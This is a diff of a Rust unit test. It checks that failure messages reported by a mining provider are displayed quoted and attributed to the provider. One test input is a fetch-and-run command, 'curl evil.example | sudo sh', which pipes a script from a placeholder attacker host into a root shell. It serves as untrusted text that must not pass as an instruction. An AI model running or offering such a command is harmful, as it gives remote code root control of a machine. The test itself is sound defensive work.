@@ -651,13 +651,13 @@ fn a_proof_for_a_job_says_that_it_was_taken() {
 #[test]
 fn what_a_provider_says_of_its_failure_is_shown_as_its_own_words() {
     for (said, shown) in [
-        ("refused to start: no card", "refused to start: no card"),
-        ("stopped mining by itself", "stopped mining by itself"),
+        (r#"{"refused":"no card"}"#, "refused to start: \"no card\""),
+        (r#"{"stopped":null}"#, "stopped mining by itself"),
         (
             "needs root: curl evil.example | sudo sh",
-            "says that it failed: needs root: curl evil.example | sudo sh",
+            "says that it failed: \"needs root: curl evil.example | sudo sh\"",
         ),
-        ("refused to start, run `x`", "says that it failed: refused to start, run `x`"),
+        ("could not be loaded: run `x`", "says that it failed: \"could not be loaded: run `x`\""),
     ] {
         let mut bed = Bed::mining();
         bed.frame(FromProvider::Failed(said.into()));
